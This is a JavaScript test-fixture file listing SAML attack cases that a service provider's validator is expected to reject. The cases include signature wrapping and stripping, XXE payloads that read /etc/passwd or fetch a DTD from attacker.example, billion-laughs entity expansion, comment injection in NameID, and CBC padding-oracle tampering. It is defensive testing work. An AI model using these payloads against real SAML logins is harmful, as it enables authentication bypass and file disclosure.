import { testKey } from './idp.js';
import { certificateData, enveloped, exclusive } from './sign.js';
import { clone, el, find, raw, take, wire } from './xml-tree.js';
import { moreAttackCases } from './more-attack-cases.js';
import { wrappingCases } from './wrapping-cases.js';

const attacker = testKey('attacker');
const idp = testKey('idp');
const now = '2026-06-01T12:00:00Z';
const evil = 'admin@acme.example';
const email = 'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress';

const child = (node, local) => node.children.find((each) => each.name?.split(':').at(-1) === local);
const nameIdOf = (assertion) => child(child(assertion, 'Subject'), 'NameID');
const conditionsOf = (assertion) => child(assertion, 'Conditions');
const refusedAs = (code, about, mint = {}, extra = {}) => ({ about, mint, code, ...extra });
const bytes = (count) => 'x'.repeat(count);
const transform = (name, algorithm, ...children) => el(name('Transform'), { Algorithm: algorithm }, ...children);

const signatureCases = {
  'signature-stripped': refusedAs('saml.signature', 'no signature at all', { sign: 'none' }),
  'signature-removed-after-signing': refusedAs('saml.signature', 'a genuine message whose signatures were cut out', {
    edit: { signedAssertion: (assertion) => take(assertion, 'Signature'), signedResponse: (response) => take(response, 'Signature') },
  }),
  'signature-of-attacker': refusedAs('saml.signature', 'signed with a key of the attacker', { key: attacker }),
  'key-info-of-attacker': refusedAs('saml.signature', "signed with the attacker's key, KeyInfo shows the IdP's certificate", { key: { ...attacker, certificate: idp.certificate } }),
  'key-info-names-only': refusedAs('saml.signature', "signed with the attacker's key, KeyInfo names a key only", { key: attacker, signature: { keyInfo: (name) => [el(name('KeyName'), {}, 'idp')] } }),
  'retrieval-method': refusedAs('saml.signature', 'KeyInfo asks to fetch the key from elsewhere', { key: attacker, signature: { keyInfo: (name) => [el(name('RetrievalMethod'), { URI: 'https://attacker.example/key', Type: 'http://www.w3.org/2000/09/xmldsig#X509Data' })] } }),
  'old-key-after-rollover': refusedAs('saml.signature', 'signed with a key that is no longer in the metadata', {}, { certificates: ['idp-next'] }),
  'nameid-changed': refusedAs('saml.signature', 'NameID changed after signing', { sign: 'assertion', edit: { signedAssertion: (assertion) => (nameIdOf(assertion).children = [evil]) } }),
  'attribute-changed': refusedAs('saml.signature', 'an attribute added after signing', {
    sign: 'response',
    edit: { signedResponse: (response) => find(response, 'AttributeStatement').children.push(el('saml:Attribute', { Name: 'role' }, el('saml:AttributeValue', {}, 'admin'))) },
  }),
  'inner-signature-broken': refusedAs('saml.signature', 'the Response is signed, the signature of its Assertion does not verify', { edit: { signedAssertion: (assertion) => (nameIdOf(assertion).children = [evil]) } }),
  'outer-signature-broken': refusedAs('saml.signature', 'the Assertion is signed, the signature of the Response around it does not verify', { edit: { signedResponse: (response) => (response.attributes.InResponseTo = '_request-2') } }),
  'signature-sha1': refusedAs('saml.signature', 'RSA with SHA-1', { signature: { method: 'rsa-sha1', digest: 'sha1' } }),
  'digest-sha1': refusedAs('saml.signature', 'RSA with SHA-256 over a SHA-1 digest', { signature: { digest: 'sha1' } }),
  'signature-md5': refusedAs('saml.signature', 'RSA with MD5', { signature: { method: 'rsa-md5', digest: 'md5' } }),
  'signature-hmac-with-public-key': refusedAs('saml.signature', 'HMAC whose secret is the public certificate', { signature: { method: 'hmac-sha256' } }),
  'signature-none': refusedAs('saml.signature', 'the algorithm "none"', { signature: { method: 'none' } }),
  'reference-elsewhere': refusedAs('saml.signature', 'the signature refers to another element', { sign: 'assertion', signature: { reference: '#_other' } }),
  'reference-empty': refusedAs('saml.signature', 'the signature refers to the whole document', { sign: 'response', signature: { reference: '' } }),
  'reference-external': refusedAs('saml.signature', 'the signature refers to a document elsewhere', { sign: 'response', signature: { reference: 'https://attacker.example/x.xml' } }),
  'reference-xpointer': refusedAs('saml.signature', 'the signature refers by XPointer', { sign: 'response', signature: { reference: '#xpointer(/)' } }),
  'two-references': refusedAs('saml.signature', 'SignedInfo with two references', {
    sign: 'response',
    signature: { editSignedInfo: (signedInfo) => signedInfo.children.push(clone(child(signedInfo, 'Reference'))) },
  }),
  'transform-xslt': refusedAs('saml.signature', 'an XSLT transform that would replace the content', {
    sign: 'response',
    signature: { transforms: (name) => [transform(name, enveloped), transform(name, 'http://www.w3.org/TR/1999/REC-xslt-19991116', el('xsl:stylesheet', { 'xmlns:xsl': 'http://www.w3.org/1999/XSL/Transform', version: '1.0' }))] },
  }),
  'transform-xpath': refusedAs('saml.signature', 'an XPath transform that would leave the changed part out', {
    sign: 'response',
    signature: { transforms: (name) => [transform(name, enveloped), transform(name, 'http://www.w3.org/TR/1999/REC-xpath-19991116', el(name('XPath'), {}, 'not(ancestor-or-self::*)'))] },
  }),
  'transform-base64': refusedAs('saml.signature', 'a base64 transform', { sign: 'response', signature: { transforms: (name) => [transform(name, enveloped), transform(name, 'http://www.w3.org/2000/09/xmldsig#base64')] } }),
  'transforms-a-thousand': refusedAs('saml.signature', 'a thousand canonicalisations, each as dear as the first', { sign: 'response', signature: { transforms: (name) => Array.from({ length: 1000 }, () => transform(name, exclusive)) } }),
  'transform-with-comments': refusedAs('saml.signature', 'a canonicalisation that keeps comments', { sign: 'response', signature: { transforms: (name) => [transform(name, enveloped), transform(name, `${exclusive}WithComments`)] } }),
  'transform-not-enveloped': refusedAs('saml.signature', 'no enveloped-signature transform', { sign: 'response', signature: { transforms: (name) => [transform(name, exclusive)] } }),
  'void-canonicalisation': refusedAs('saml.signature', 'a relative namespace URI makes the canonicalisation fail: an empty result must not count as a match', {
    sign: 'assertion',
    edit: {
      assertion: (assertion) => {
        const attribute = find(assertion, 'Attribute');
        attribute.ns.x = 'relative';
        attribute.attributes['x:y'] = 'z';
      },
    },
  }),
  'digest-smuggled-in-status': refusedAs('saml.signature', 'CVE-2024-45409: a second DigestValue outside of SignedInfo, where a careless search finds it first', {
    sign: 'assertion',
    edit: {
      signedAssertion: (assertion) => (nameIdOf(assertion).children = [evil]),
      signedResponse: (response) => child(response, 'Status').children.push(el('samlp:StatusDetail', {}, el('ds:DigestValue', { 'xmlns:ds': 'http://www.w3.org/2000/09/xmldsig#' }, 'AAAA'))),
    },
  }),
  'digest-value-twice': refusedAs('saml.schema', 'CVE-2025-29775 and kin: DigestValue twice in one Reference', {
    sign: 'assertion',
    edit: { signedAssertion: (assertion) => find(assertion, 'Reference').children.push(el('ds:DigestValue', {}, 'AAAA')) },
  }),
  'digest-value-comment': refusedAs('saml.structure', 'CVE-2025-29775: a comment inside DigestValue', {
    sign: 'assertion',
    edit: { signedAssertion: (assertion) => find(assertion, 'DigestValue').children.unshift(raw('<!--AAAA-->')) },
  }),
  'signed-info-twice': refusedAs('saml.structure', 'CVE-2025-29774: two SignedInfo in one signature', {
    sign: 'assertion',
    edit: { signedAssertion: (assertion) => child(assertion, 'Signature').children.unshift(clone(find(assertion, 'SignedInfo'))) },
  }),
  'signature-in-other-namespace': refusedAs('saml.structure', 'an element called Signature of another namespace', { sign: 'assertion', edit: { signedResponse: (response) => response.children.splice(1, 0, el('x:Signature', { 'xmlns:x': 'urn:x' })) } }),
  'certificate-of-weak-chain': refusedAs('saml.signature', 'KeyInfo with a second certificate of the attacker', { key: attacker, signature: { keyInfo: (name, key) => [certificateData(name, idp.certificate), certificateData(name, key.certificate)] } }),
};

const parserCases = {
  doctype: refusedAs('saml.structure', 'a document type', { edit: { xml: (xml) => `<!DOCTYPE x>${xml}` } }),
  'doctype-lower-case': refusedAs('saml.structure', 'a document type, misspelt', { edit: { xml: (xml) => `<!doctype x>${xml}` } }),
  'external-entity': refusedAs('saml.structure', 'XXE: a file as NameID', { sign: 'none', nameId: { value: '' }, edit: { xml: (xml) => `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${xml.replace('</saml:NameID>', '&x;</saml:NameID>')}` } }),
  'parameter-entity': refusedAs('saml.structure', 'XXE through a parameter entity', { edit: { xml: (xml) => `<!DOCTYPE r [<!ENTITY % x SYSTEM "https://attacker.example/x.dtd">%x;]>${xml}` } }),
  'billion-laughs': refusedAs('saml.structure', 'entities that expand into gigabytes', { edit: { xml: (xml) => `<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${xml}` } }),
  'quadratic-blow-up': refusedAs('saml.structure', 'one long entity used often', { edit: { xml: (xml) => `<!DOCTYPE r [<!ENTITY a "${bytes(5000)}">]>${xml.replace('</saml:NameID>', `${'&a;'.repeat(100)}</saml:NameID>`)}` } }),
  'undefined-entity': refusedAs('saml.structure', 'an entity that nobody declared', { edit: { xml: (xml) => xml.replace('</saml:NameID>', '&x;</saml:NameID>') } }),
  'comment-in-nameid': refusedAs('saml.structure', 'CVE-2017-11427: a comment cuts the NameID in two', { sign: 'assertion', nameId: { value: `${evil}.attacker.example` }, edit: { xml: (xml) => xml.replace(`${evil}.attacker`, `${evil}<!-- -->.attacker`) } }),
  'comment-in-attribute': refusedAs('saml.structure', 'a comment cuts an attribute value in two', { sign: 'assertion', attributes: { [email]: `${evil}.attacker.example` }, edit: { xml: (xml) => xml.replace(`${evil}.attacker`, `${evil}<!-- -->.attacker`) } }),
  'instruction-in-nameid': refusedAs('saml.structure', 'a processing instruction cuts the NameID in two', { edit: { xml: (xml) => xml.replace('@acme.example</saml:NameID>', '@acme.example<?x?></saml:NameID>') } }),
  'cdata-in-nameid': refusedAs('saml.structure', 'a CDATA section in the NameID: the same octets once canonical, another text to some readers', { edit: { xml: (xml) => xml.replace('jane.doe@acme.example</saml:NameID>', 'jane.doe<![CDATA[@acme.example]]></saml:NameID>') } }),
  'stylesheet-instruction': refusedAs('saml.structure', 'a stylesheet in front', { edit: { xml: (xml) => `<?xml-stylesheet href="https://attacker.example/x.xsl"?>${xml}` } }),
  'null-character': refusedAs('saml.structure', 'a NUL that ends the text for some readers', { edit: { xml: (xml) => `${xml}\0<x/>` } }),
  'too-deep': refusedAs('saml.structure', 'nested 60 levels deep', { edit: { signedResponse: (response) => response.children.push(Array.from({ length: 60 }).reduce((inner) => el('x', {}, inner), el('x'))) } }),
  'too-many-elements': refusedAs('saml.structure', '6,000 elements', { edit: { signedResponse: (response) => response.children.push(el('x', {}, Array.from({ length: 6000 }, () => el('y')))) } }),
  'too-many-attributes': refusedAs('saml.structure', '50,000 attributes on one element', { edit: { xml: (xml) => xml.replace('<saml:Subject>', `<saml:Subject ${Array.from({ length: 50_000 }, (_, i) => `${i.toString(36).replace(/^(\d)/, '_$1')}=""`).join(' ')}>`) } }),
  'too-large': refusedAs('saml.structure', 'larger than any message', { edit: { xml: (xml) => `${xml}${' '.repeat(300_000)}` } }),
  'not-well-formed': refusedAs('saml.structure', 'ends in the middle', { edit: { xml: (xml) => xml.slice(0, -20) } }),
  'two-roots': refusedAs('saml.structure', 'something behind the Response', { edit: { xml: (xml) => `${xml}<x/>` } }),
  'text-before': refusedAs('saml.structure', 'text in front of the Response', { edit: { xml: (xml) => `x${xml}` } }),
  'attribute-twice': refusedAs('saml.structure', 'attribute pollution: one attribute twice', { edit: { xml: (xml) => xml.replace(' Version="2.0"', ' Version="2.0" Version="2.0"') } }),
  'utf-16-declared': refusedAs('saml.structure', 'declares UTF-16 but is not', { edit: { xml: (xml) => `<?xml version="1.0" encoding="UTF-16"?>${xml}` } }),
  'utf-7-declared': refusedAs('saml.structure', 'declares UTF-7', { edit: { xml: (xml) => `<?xml version="1.0" encoding="utf-7"?>${xml}` } }),
  'undeclared-prefix': refusedAs('saml.structure', 'a prefix without a namespace', { edit: { signedResponse: (response) => response.children.push(el('y:x')) } }),
};

const encodingCases = {
  'form-empty': { about: 'an empty form value', code: 'saml.structure', formValue: () => '' },
  'form-not-base64': { about: 'not base64', code: 'saml.structure', formValue: () => '<samlp:Response/>' },
  'form-base64url': { about: 'base64url instead of base64', code: 'saml.structure', mint: {}, formValue: (base64) => base64.replaceAll('+', '-').replaceAll('/', '_') },
  'form-junk-in-base64': { about: 'characters that a lenient decoder skips', code: 'saml.structure', mint: {}, formValue: (base64) => `${base64.slice(0, 100)}!!${base64.slice(100)}` },
  'form-padding-missing': { about: 'base64 without its padding', code: 'saml.structure', mint: { edit: { xml: (xml) => `${xml}${' '.repeat((4 - (Buffer.byteLength(xml) % 3)) % 3 || 1)}` } }, formValue: (base64) => base64.replace(/=+$/, '').slice(0, -1) },
  'form-utf-16': { about: 'UTF-16 octets', code: 'saml.structure', mint: {}, formValue: (base64) => Buffer.from(Buffer.from(base64, 'base64').toString(), 'utf16le').toString('base64') },
  'form-invalid-utf-8': { about: 'octets that are not UTF-8', code: 'saml.structure', mint: {}, formValue: (base64) => Buffer.concat([Buffer.from(base64, 'base64'), Buffer.from([0xc3, 0x28])]).toString('base64') },
  'form-deflated': { about: 'not XML behind the base64', code: 'saml.structure', formValue: () => Buffer.from('not xml').toString('base64') },
};

const moveConditionsToFront = (assertion) => {
  const [issuer, ...rest] = assertion.children;
  assertion.children = [issuer, conditionsOf(assertion), ...rest.filter((each) => each !== conditionsOf(assertion))];
};

const semanticCases = {
  'audience-wrong': refusedAs('saml.audience', 'for another service provider', { audience: 'https://other.example' }),
  'audience-prefix': refusedAs('saml.audience', 'our Entity ID with something behind it', { audience: 'https://sp.example/t/acme/saml/okta/metadata.attacker.example' }),
  'audience-missing': refusedAs('saml.audience', 'no AudienceRestriction', { audience: null }),
  'audience-empty': refusedAs('saml.audience', 'an empty Audience', { audience: '' }),
  'audience-second-restriction-wrong': refusedAs('saml.audience', 'two AudienceRestrictions, ours and another: both must name us', {
    edit: { assertion: (assertion) => conditionsOf(assertion).children.push(el('saml:AudienceRestriction', {}, el('saml:Audience', {}, 'https://other.example'))) },
  }),
  'conditions-missing': refusedAs('saml.audience', 'no Conditions at all', { conditions: null }),
  'condition-unknown': refusedAs('saml.conditions', 'a condition of an unknown type', {
    edit: { assertion: (assertion) => conditionsOf(assertion).children.push(el('saml:Condition', { 'xmlns:xsi': 'http://www.w3.org/2001/XMLSchema-instance', 'xmlns:x': 'urn:x', 'xsi:type': 'x:Only' })) },
  }),
  'condition-twice': refusedAs('saml.conditions', 'OneTimeUse twice', { edit: { assertion: (assertion) => conditionsOf(assertion).children.push(el('saml:OneTimeUse'), el('saml:OneTimeUse')) } }),
  'recipient-wrong': refusedAs('saml.recipient', 'for another endpoint', { recipient: 'https://other.example/acs' }),
  'recipient-missing': refusedAs('saml.recipient', 'no Recipient', { recipient: null }),
  'recipient-empty': refusedAs('saml.recipient', 'an empty Recipient', { recipient: '' }),
  'destination-wrong': refusedAs('saml.destination', 'sent to another endpoint', { destination: 'https://other.example/acs' }),
  'destination-missing': refusedAs('saml.destination', 'no Destination', { destination: null }),
  'destination-empty': refusedAs('saml.destination', 'an empty Destination', { destination: '' }),
  'destination-other-case': refusedAs('saml.destination', 'our endpoint in capitals', { destination: 'https://sp.example/t/acme/saml/okta/ACS' }),
  'destination-unsigned-wrong': refusedAs('saml.destination', 'only the Assertion is signed, the envelope is for another endpoint', { sign: 'assertion', destination: 'https://other.example/acs' }),
  'issuer-of-response-wrong': refusedAs('saml.issuer', 'the Response of another IdP', { responseIssuer: 'https://other.example' }),
  'issuer-of-assertion-wrong': refusedAs('saml.issuer', 'the Assertion of another IdP', { assertionIssuer: 'https://other.example' }),
  'issuer-of-response-missing': refusedAs('saml.issuer', 'no Issuer on the Response', { responseIssuer: null }),
  'issuer-of-assertion-missing': refusedAs('saml.schema', 'no Issuer in the Assertion', { assertionIssuer: null, sign: 'response' }),
  'issuer-empty': refusedAs('saml.issuer', 'an empty Issuer in the Assertion', { assertionIssuer: '' }),
  'issuer-with-space': refusedAs('saml.issuer', 'the Issuer with white space around it', { responseIssuer: ' https://idp.example/metadata' }),
  expired: refusedAs('saml.time', 'expired', { notOnOrAfter: '2026-06-01T11:50:00Z', notBefore: '2026-06-01T11:40:00Z', confirmationNotOnOrAfter: '2026-06-01T11:50:00Z' }),
  'expired-at-the-edge': refusedAs('saml.time', 'expired 60 seconds ago, which is as much as the skew', { notOnOrAfter: '2026-06-01T11:59:00Z' }),
  'expired-confirmation': refusedAs('saml.time', 'only the bearer confirmation expired', { confirmationNotOnOrAfter: '2026-06-01T11:50:00Z' }),
  'not-yet-valid': refusedAs('saml.time', 'valid from tomorrow on', { notBefore: '2026-06-02T12:00:00Z', notOnOrAfter: '2026-06-02T12:05:00Z' }),
  'issued-tomorrow': refusedAs('saml.time', 'issued in the future', { issueInstant: '2026-06-02T12:00:00Z' }),
  'window-backwards': refusedAs('saml.time', 'NotBefore after NotOnOrAfter', { notBefore: '2026-06-01T12:00:30Z', notOnOrAfter: '2026-06-01T12:00:10Z' }),
  'time-with-offset': refusedAs('saml.time', 'a time with an offset, which SAML forbids', { notOnOrAfter: '2026-06-01T14:05:00+02:00' }),
  'time-without-zone': refusedAs('saml.time', 'a time without a zone', { notOnOrAfter: '2026-06-01T12:05:00' }),
  'time-that-is-none': refusedAs('saml.schema', 'a day that does not exist', { notOnOrAfter: '2026-06-31T12:05:00Z' }),
  'time-as-words': refusedAs('saml.schema', 'words instead of a time', { notOnOrAfter: 'tomorrow' }),
  'subject-missing': refusedAs('saml.subject', 'no NameID', { nameId: null }),
  'subject-empty': refusedAs('saml.subject', 'an empty NameID', { nameId: { value: '' } }),
  'subject-blank': refusedAs('saml.subject', 'a NameID of white space', { nameId: { value: '  ' } }),
  'confirmation-missing': refusedAs('saml.confirmation', 'no SubjectConfirmation', { confirmation: null }),
  'confirmation-sender-vouches': refusedAs('saml.confirmation', 'sender-vouches instead of bearer', { confirmationMethod: 'urn:oasis:names:tc:SAML:2.0:cm:sender-vouches' }),
  'confirmation-holder-of-key': refusedAs('saml.confirmation', 'holder-of-key instead of bearer', { confirmationMethod: 'urn:oasis:names:tc:SAML:2.0:cm:holder-of-key' }),
  'confirmation-without-end': refusedAs('saml.confirmation', 'a bearer confirmation that never ends', { confirmationNotOnOrAfter: null }),
  'confirmation-not-before': refusedAs('saml.confirmation', 'a bearer confirmation with NotBefore', { confirmationNotBefore: now }),
  'in-response-to-other': refusedAs('saml.in_response_to', 'the Response answers one request, its Assertion another', { sign: 'assertion', responseInResponseTo: '_request-2' }),
  'in-response-to-cut-out': refusedAs('saml.in_response_to', 'InResponseTo cut out of the unsigned envelope, to look unsolicited', { sign: 'assertion', responseInResponseTo: null }),
  'in-response-to-missing-inside': refusedAs('saml.in_response_to', 'the Assertion does not say what it answers', { confirmationInResponseTo: null }),
  'authn-missing': refusedAs('saml.authn', 'no AuthnStatement: the IdP does not say that anybody signed in', { authn: null }),
  'session-over': refusedAs('saml.authn', 'the session at the IdP is over', { sessionNotOnOrAfter: '2026-06-01T11:00:00Z' }),
  'attribute-with-elements': refusedAs('saml.attributes', 'elements inside an attribute value', {
    edit: { assertion: (assertion) => find(assertion, 'AttributeValue').children.push(el('b'), 'x') },
  }),
  'attribute-encrypted': refusedAs('saml.attributes', 'an EncryptedAttribute', {
    edit: { assertion: (assertion) => find(assertion, 'AttributeStatement').children.push(el('saml:EncryptedAttribute', {}, el('xenc:EncryptedData', { 'xmlns:xenc': 'http://www.w3.org/2001/04/xmlenc#' }, el('xenc:CipherData', {}, el('xenc:CipherValue', {}, 'AAAA'))))) },
  }),
  'version-of-response': refusedAs('saml.structure', 'a Response of version 1.1', { responseVersion: '1.1' }),
  'version-of-assertion': refusedAs('saml.structure', 'an Assertion of version 1.1', { version: '1.1' }),
  'schema-unknown-element': refusedAs('saml.schema', 'an element the schema does not know', { edit: { response: (response) => response.children.push(el('samlp:Surprise')) } }),
  'schema-id-missing': refusedAs('saml.schema', 'a Response without ID', { sign: 'assertion', edit: { signedResponse: (response) => delete response.attributes.ID } }),
  'schema-order': refusedAs('saml.schema', 'Conditions before Subject', { edit: { assertion: moveConditionsToFront } }),
};

const responder = 'urn:oasis:names:tc:SAML:2.0:status:Responder';
const statusCases = {
  'status-not-assigned': refusedAs('login.idp_refused', 'the IdP says No: not assigned to the application', { sign: 'response', withAssertion: false, status: { code: responder, inner: 'urn:oasis:names:tc:SAML:2.0:status:RequestDenied', message: 'User is not assigned to this application.' } }),
  'status-unsigned': refusedAs('login.idp_refused', 'the IdP says No, unsigned', { sign: 'none', withAssertion: false, status: { code: responder, inner: 'urn:oasis:names:tc:SAML:2.0:status:AuthnFailed' } }),
  'status-failed-with-assertion': refusedAs('login.idp_refused', 'the status is a failure, and yet there is a signed assertion', { status: { code: responder } }),
  'status-success-without-assertion': refusedAs('saml.structure', 'Success, but no assertion', { sign: 'response', withAssertion: false }),
};

const tamper = (index) => (octets) => {
  const changed = Buffer.from(octets);
  changed[index < 0 ? changed.length + index : index] ^= 1;
  return changed;
};
const sp = 'rsa-oaep-mgf1p';
const encryptionCases = {
  'encrypted-cbc-last-block-changed': refusedAs('saml.encryption', 'padding oracle: the last CBC block changed', { sign: 'assertion', encrypt: { cipher: 'aes128-cbc', transport: sp, tamper: tamper(-17) } }),
  'encrypted-cbc-middle-changed': refusedAs('saml.encryption', 'padding oracle: a CBC block in the middle changed, the padding intact', { sign: 'assertion', encrypt: { cipher: 'aes128-cbc', transport: sp, tamper: tamper(200) } }),
  'encrypted-cbc-cut': refusedAs('saml.encryption', 'a CBC text that is no multiple of the block', { sign: 'assertion', encrypt: { cipher: 'aes128-cbc', transport: sp, tamper: (octets) => octets.subarray(0, -3) } }),
  'encrypted-gcm-changed': refusedAs('saml.encryption', 'one bit of a GCM text changed', { sign: 'assertion', encrypt: { cipher: 'aes256-gcm', transport: sp, tamper: tamper(100) } }),
  'encrypted-for-another': refusedAs('saml.encryption', "encrypted with somebody else's key", { sign: 'assertion', encrypt: { certificate: attacker.certificatePem } }),
  'encrypted-unsigned': refusedAs('saml.encryption', 'anybody can encrypt: no signature inside or outside', { sign: 'none', encrypt: {} }),
  'encrypted-signed-by-attacker': refusedAs('saml.encryption', 'an encrypted Assertion that the attacker signed', { sign: 'assertion', key: attacker, encrypt: {} }),
  'encrypted-inner-changed': refusedAs('saml.encryption', 'the NameID inside changed after signing', { sign: 'assertion', encrypt: {}, edit: { signedAssertion: (assertion) => (nameIdOf(assertion).children = [evil]) } }),
  'encrypted-two-assertions': refusedAs('saml.encryption', 'two assertions inside', {
    sign: 'response',
    encrypt: { plain: (assertion) => wire(el('saml:Advice', { 'xmlns:saml': 'urn:oasis:names:tc:SAML:2.0:assertion' }, assertion, { ...clone(assertion), attributes: { ...assertion.attributes, ID: '_second' } })) },
  }),
  'encrypted-doctype': refusedAs('saml.encryption', 'a document type inside the encryption, in front of an assertion that is good otherwise', { sign: 'response', encrypt: { plain: (assertion) => `<!DOCTYPE saml:Assertion>${wire(assertion)}` } }),
  'encrypted-pkcs1': refusedAs('saml.encryption', 'RSA PKCS#1 v1.5 key transport (Bleichenbacher)', { sign: 'assertion', encrypt: { transport: 'rsa-1_5' } }),
  'encrypted-without-our-key': refusedAs('saml.encryption', 'encrypted, though no key was ever handed to the IdP', { encrypt: {} }, { decryptionKeys: [] }),
  'plain-where-encryption-is-required': refusedAs('saml.encryption', 'a plain assertion on a connection that requires encryption', {}, { requireEncryptedAssertions: true }),
  'encrypted-outer-signature-broken': refusedAs('saml.signature', 'the signature of the Response around the encryption does not verify', { encrypt: {}, edit: { signedResponse: (response) => (response.attributes.InResponseTo = '_request-2') } }),
};

export const attackCases = { ...signatureCases, ...wrappingCases, ...parserCases, ...encodingCases, ...semanticCases, ...statusCases, ...encryptionCases, ...moreAttackCases };
